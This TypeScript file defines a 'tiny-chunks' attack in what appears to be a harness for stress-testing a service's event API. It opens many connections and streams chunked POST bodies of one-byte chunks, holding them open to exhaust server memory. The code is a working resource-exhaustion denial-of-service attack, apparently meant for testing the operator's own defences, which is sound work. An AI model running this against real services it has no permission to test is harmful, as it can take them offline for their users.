import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { toHead } from '../request-bytes.ts';

const connections = 14;
const addresses = 2;
const bodyBytes = 1024 ** 2 - 1;
const heldMs = 2_000;

/** Every byte of a body is a separate chunk, which may cost a hundred times its size to store. */
export const tinyChunks: Attack = {
  name: 'tiny-chunks',
  what: `${connections} bodies of 1 MiB from ${addresses} addresses, in chunks of one byte, whose end does not come`,
  async run({ attacker, publishableKey, count, hold }) {
    const sockets = await attacker.openMany(connections, addresses);
    const head = toHead('POST', '/api/sdk/event', {
      key: publishableKey,
      headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
    });
    const chunks = '1\r\n \r\n'.repeat(count(bodyBytes));
    await Promise.all(
      sockets.map(async (socket) => {
        await socket.write(head);
        // The service may cut off what it no longer wants to read.
        await Promise.race([socket.write(chunks), sleep(15_000)]);
      }),
    );
    await hold(heldMs);
    await Promise.all(sockets.map((socket) => socket.write('0\r\n\r\n')));
    return [];
  },
};
